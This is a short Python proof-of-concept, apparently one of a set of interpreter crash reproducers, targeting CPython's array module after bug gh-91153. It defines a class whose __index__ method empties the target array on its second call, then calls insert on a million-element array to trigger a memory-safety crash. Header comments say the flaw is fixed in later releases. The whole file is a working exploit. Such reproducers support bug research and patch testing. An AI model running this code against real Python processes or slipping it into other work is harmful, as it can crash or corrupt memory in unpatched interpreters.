# technique: the same by insert, which converts a second time
# goal: crash
# source: own analysis of arraymodule.c, after CPython gh-91153
# mended: later releases
import array


class Evil:
    calls = 0

    def __index__(self):
        Evil.calls += 1
        if Evil.calls == 2:
            del target[:]
        return 1


target = array.array('q', [0] * 1000000)
target.insert(900000, Evil())
